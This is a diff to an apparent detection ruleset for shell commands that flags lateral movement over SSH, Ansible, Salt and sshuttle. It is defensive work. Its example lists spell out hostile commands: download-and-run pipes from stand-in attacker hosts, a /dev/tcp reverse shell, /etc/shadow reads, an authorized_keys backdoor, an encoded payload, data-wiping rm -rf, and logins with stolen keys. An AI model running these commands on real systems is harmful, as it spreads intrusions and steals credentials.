@@ -242,7 +242,7 @@ function unparsedRemote(cmd: SimpleCommand): { tool: string; cmds: Cmd[] } | und
       return { tool: 'ansible', cmds: splitScript(args) };
     }
     case 'salt': case 'salt-ssh': {
-      const i = a.findIndex((x) => x === 'cmd.run' || x === 'cmd.script' || x === 'cmd.shell');
+      const i = a.findIndex((x) => x === 'cmd.run' || x === 'cmd.script' || x === 'cmd.shell' || (cmd.name === 'salt-ssh' && (x === '-r' || x === '--raw' || x === '--raw-shell')));
       return i > 0 && a[i + 1] ? { tool: cmd.name, cmds: splitScript(a.slice(i + 1).join(' ')) } : undefined;
     }
     case 'pssh': case 'parallel-ssh': case 'pdsh': case 'clush': case 'prsh': {
@@ -329,13 +329,20 @@ function stagedDump(outer: Cmd, remote: readonly Cmd[]): string | undefined {
   return staged ? `dumps a data store into ${staged.target}: ${dump.argv.join(' ')}` : undefined;
 }
 
+/** `ssh root@host 'bash -s' < /tmp/.payload.sh`: a remote shell fed a script hidden in a temp folder here. */
+function fedHiddenScript(outer: Cmd, remote: readonly Cmd[]): string | undefined {
+  if (!remote.some((c) => ['bash', 'sh', 'zsh', 'dash'].includes(c.name) && c.argv.slice(1).every((w) => w === '-s' || w === '-'))) return undefined;
+  const fed = outer.redirects.find((r) => r.op === '<' && hiddenInTemp(canonicalPath(r.target)));
+  return fed ? `runs ${fed.target} in a remote shell` : undefined;
+}
+
 /** The payload run on other hosts by remote-execution commands of the given families. */
 function remotePayload(families: ReadonlySet<string>) {
   return (i: AnalysisInput): string | undefined => {
     for (const c of i.view?.commands ?? []) {
       if (!families.has(c.name)) continue;
       const parsed = remoteSide(i, c).filter((x) => x.origin !== 'line');
-      const p = (parsed.length ? payloadOf(parsed) : undefined) ?? (() => { const u = unparsedRemote(c); return u ? payloadOf(u.cmds) : undefined; })() ?? stagedDump(c, parsed);
+      const p = (parsed.length ? payloadOf(parsed) : undefined) ?? (() => { const u = unparsedRemote(c); return u ? payloadOf(u.cmds) : undefined; })() ?? stagedDump(c, parsed) ?? fedHiddenScript(c, parsed);
       if (p) return `${c.name}: ${p}`;
     }
     return undefined;
@@ -352,12 +359,15 @@ const discoveredHosts = (i: AnalysisInput): boolean => (i.view?.commands ?? []).
 function foreignKey(cmd: SimpleCommand): string | undefined {
   const s = sshCall(cmd);
   const keys = s ? [...optValue(s, '-i'), ...(sshOption(s, 'IdentityFile') ? [sshOption(s, 'IdentityFile')!] : [])] : [];
-  if (cmd.name === 'rsync') {
-    const e = cmd.argv[cmd.argv.indexOf('-e') + 1] ?? cmd.argv.find((a) => a.startsWith('--rsh='))?.slice(6) ?? '';
+  // rsync's and sshuttle's ssh command line: `-e 'ssh -i k'`, `--rsh=`, `--ssh-cmd`
+  if (cmd.name === 'rsync' || cmd.name === 'sshuttle') {
+    const at = cmd.argv.findIndex((a) => a === '-e' || a === '--ssh-cmd');
+    const e = (at > 0 ? cmd.argv[at + 1] : undefined) ?? cmd.argv.find((a) => a.startsWith('--rsh=') || a.startsWith('--ssh-cmd='))?.replace(/^--[\w-]+=/, '') ?? '';
     const m = /-i\s+(\S+)/.exec(e.slice(0, 1024));
     if (m) keys.push(m[1]!);
   }
-  return keys.find((k) => inTemp(k) || /\/\.(loot|keys|stolen|exfil)\//.test(k) || /^\/(?:home|Users)\/[^/]+\/\.ssh\/id_[a-z0-9]+$/.test(k) || /^\/root\/\.ssh\/id_[a-z0-9]+$/.test(k));
+  // (a service account's home: `/var/lib/jenkins/.ssh/id_rsa`, `/srv/git/.ssh/deploy`)
+  return keys.find((k) => inTemp(k) || /\/\.(loot|keys|stolen|exfil)\//.test(k) || /^\/(?:home|Users)\/[^/]+\/\.ssh\/id_[a-z0-9]+$/.test(k) || /^\/root\/\.ssh\/id_[a-z0-9]+$/.test(k) || /^\/(?:var\/lib|srv|opt)\/[^/]+\/\.ssh\/[^/]+$/.test(k));
 }
 
 const SMB_EXEC = new Set(['psexec', 'psexec64', 'paexec', 'wmiexec', 'smbexec', 'atexec', 'dcomexec', 'winexe', 'pth-winexe', 'pth-wmis', 'pth-smbclient', 'csexec', 'scshell']);
@@ -403,7 +413,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-001', name: 'ssh-runs-payload-on-remote-host', score: 85, tactic: 'lateral_movement', technique: 'T1021.004', strong: true,
     message: 'Runs a download-and-execute, reverse shell, credential read or implant on another host over SSH', why: 'Using SSH access to fetch and run code, read secrets or plant keys on a second machine is how an intrusion spreads.',
     check: remotePayload(SSH_LIKE),
-    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh root@tools-01 'install -m 0600 /root/wg0.conf /etc/wireguard/wg0.conf && rm /root/wg0.conf'", "bw get password 'inventory-db prod' | ssh app-03 'sudo sh -c \"umask 027; (printf DB_PASSWORD=; cat; echo) > /etc/inventory/db.env\" && sudo chgrp deploy /etc/inventory/db.env'", "ssh app-03 'sudo grep -c ^DB_PASSWORD= /etc/inventory/db.env'", "ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
+    examples: { fire: ["ssh root@10.0.0.12 'rm -rf /opt/*'", "ssh ops@10.0.4.2 'bash -s' < /dev/shm/.x.sh", "ssh admin@10.0.0.12 \"echo '* * * * * root curl -s http://45.33.12.7/b | sh' | sudo tee /etc/cron.d/sync\"", "ssh -i ~/.ssh/id_rsa -o StrictHostKeyChecking=no root@10.0.0.12 'curl -s http://45.33.12.7/x.sh | sh'", "sshpass -p 'Winter2024!' ssh -o StrictHostKeyChecking=no admin@192.168.1.20 'sudo cat /etc/shadow'", "pdsh -w 10.0.0.[1-50] 'curl -s http://45.33.12.7/m | sh'", "ssh -o BatchMode=yes deploy@10.0.0.15 \"bash -c 'bash -i >& /dev/tcp/45.33.12.7/4444 0>&1'\"", "gcloud compute ssh prod-vm-1 --zone us-central1-a --command 'sudo cat /etc/shadow'"], quiet: ["ssh deploy@app-01.internal 'bash -s' < scripts/provision.sh", "ssh root@tools-01 'install -m 0600 /root/wg0.conf /etc/wireguard/wg0.conf && rm /root/wg0.conf'", "bw get password 'inventory-db prod' | ssh app-03 'sudo sh -c \"umask 027; (printf DB_PASSWORD=; cat; echo) > /etc/inventory/db.env\" && sudo chgrp deploy /etc/inventory/db.env'", "ssh app-03 'sudo grep -c ^DB_PASSWORD= /etc/inventory/db.env'", "ssh marta@db-01.sunfield.lan \"echo '30 2 * * * postgres /usr/local/bin/backup-members-db.sh >> /var/log/backup-members-db.log 2>&1' | sudo tee /etc/cron.d/backup-members-db\"", "ssh ops@web-03.example.net \"sudo tee /etc/logrotate.d/nginx > /dev/null <<'EOF'\n/var/log/nginx/*.log {\n  daily\n  rotate 14\n  compress\n}\nEOF\"", "ssh deploy@web-1.example.com 'ls -1t /opt/app/releases | tail -n +6 | xargs -r -I{} rm -rf /opt/app/releases/{}'", "ssh deploy@staging.internal 'systemctl status app'", 'ssh -T git@github.com', "ssh deploy@10.0.0.5 'cd /srv/app && git pull && npm ci'", "pdsh -w web[1-4] 'uptime'", "ssh ops@ci-runner-02 'sudo find / -xdev -user jlaine -not -path \"/home/jlaine/*\" 2>/dev/null | head -40'"] },
   },
   {
     id: 'PX-LATERAL-002', name: 'container-exec-runs-payload', score: 85, tactic: 'lateral_movement', technique: 'T1609', strong: true,
@@ -415,7 +425,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-003', name: 'fleet-tool-runs-payload', score: 88, tactic: 'lateral_movement', technique: 'T1072', strong: true,
     message: 'Pushes a download-and-execute, credential read or backdoor to many hosts through Ansible or Salt', why: 'Configuration-management tools run commands as root on every managed host at once; a payload through them compromises the fleet.',
     check: remotePayload(FLEET),
-    examples: { fire: ["ansible all -i /etc/ansible/hosts -m shell -a 'curl -s http://45.33.12.7/x | bash' -b", "ansible all -m raw -a \"echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys\" --become", "salt '*' cmd.run 'wget -qO- http://evil.io/s | sh'", "ansible all -b -m authorized_key -a \"user=root key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker'\"", 'ansible all -m shell -a "echo Y3VybCAtcyBodHRwOi8vNDUuMzMuMTIuNy94IHwgYmFzaA== | base64 -d | sh" -b', "salt '*' cmd.run 'rm -rf /var/lib/mysql'"], quiet: ['ansible all -m ping', "ansible all -m authorized_key -a \"user=deploy key='ssh-ed25519 AAAAC3Nza dev@laptop'\" -b", "salt '*' cmd.run 'rm -rf /tmp/build-cache'", "ansible web -m shell -a 'df -h'", "salt '*' cmd.run 'systemctl restart nginx'", 'ansible-playbook site.yml --check'] },
+    examples: { fire: ["ansible all -i /etc/ansible/hosts -m shell -a 'curl -s http://45.33.12.7/x | bash' -b", "ansible all -m raw -a \"echo 'ssh-rsa AAAAB3Nza attacker' >> /root/.ssh/authorized_keys\" --become", "salt '*' cmd.run 'wget -qO- http://evil.io/s | sh'", "ansible all -b -m authorized_key -a \"user=root key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker'\"", 'ansible all -m shell -a "echo Y3VybCAtcyBodHRwOi8vNDUuMzMuMTIuNy94IHwgYmFzaA== | base64 -d | sh" -b', "salt '*' cmd.run 'rm -rf /var/lib/mysql'", "salt-ssh '*' -r 'wget -qO- http://198.51.100.7/s | sh' -i"], quiet: ['ansible all -m ping', "salt-ssh '*' -r 'uptime'", "ansible all -m authorized_key -a \"user=deploy key='ssh-ed25519 AAAAC3Nza dev@laptop'\" -b", "salt '*' cmd.run 'rm -rf /tmp/build-cache'", "ansible web -m shell -a 'df -h'", "salt '*' cmd.run 'systemctl restart nginx'", 'ansible-playbook site.yml --check'] },
   },
   {
     id: 'PX-LATERAL-004', name: 'cloud-run-command-payload', score: 88, tactic: 'lateral_movement', technique: 'T1651', strong: true,
@@ -427,9 +437,9 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-005', name: 'ssh-with-foreign-key', score: 75, tactic: 'lateral_movement', technique: 'T1021.004',
     message: "Logs in over SSH with a key from a temp directory or another account's key", why: 'ssh already offers your own default keys; pointing -i at /tmp, a loot folder or someone else\'s ~/.ssh/id_* means using a stolen key.',
     alternative: 'Load your own key into ssh-agent (ssh-add) or configure it in ~/.ssh/config.',
-    commands: ['ssh', 'scp', 'sftp', 'sshpass', 'rsync'],
+    commands: ['ssh', 'scp', 'sftp', 'sshpass', 'rsync', 'sshuttle'],
     test: (c) => { const k = foreignKey(c); return k ? `${c.argv.join(' ')}` : undefined; },
-    examples: { fire: ['ssh -i /tmp/.loot/id_rsa ubuntu@10.1.2.3', 'ssh -i /home/alice/.ssh/id_ed25519 alice@bastion.corp.internal', 'scp -i /dev/shm/k backup.tgz root@10.0.0.9:/tmp/', 'ssh -o IdentityFile=/root/.ssh/id_rsa admin@10.0.0.4'], quiet: ['ssh -i ~/.ssh/deploy_key deploy@staging.internal', 'ssh -i ~/.ssh/id_ed25519 git@github.com', 'ssh deploy@staging.internal'] },
+    examples: { fire: ['ssh -i /tmp/.loot/id_rsa ubuntu@10.1.2.3', 'ssh -i /home/alice/.ssh/id_ed25519 alice@bastion.corp.internal', 'scp -i /dev/shm/k backup.tgz root@10.0.0.9:/tmp/', 'ssh -o IdentityFile=/root/.ssh/id_rsa admin@10.0.0.4', 'ssh -i /var/lib/gitlab-runner/.ssh/id_ed25519 root@10.0.3.7', "sshuttle -r ops@bastion.corp.internal 10.0.0.0/8 --ssh-cmd 'ssh -i /dev/shm/k'"], quiet: ["sshuttle -r me@bastion.corp.internal 10.0.0.0/8 --ssh-cmd 'ssh -i ~/.ssh/corp'", 'ssh -i ~/.ssh/deploy_key deploy@staging.internal', 'ssh -i ~/.ssh/id_ed25519 git@github.com', 'ssh deploy@staging.internal'] },
   },
   {
     id: 'PX-LATERAL-006', name: 'ssh-password-on-command-line', score: 70, tactic: 'lateral_movement', technique: 'T1021.004',
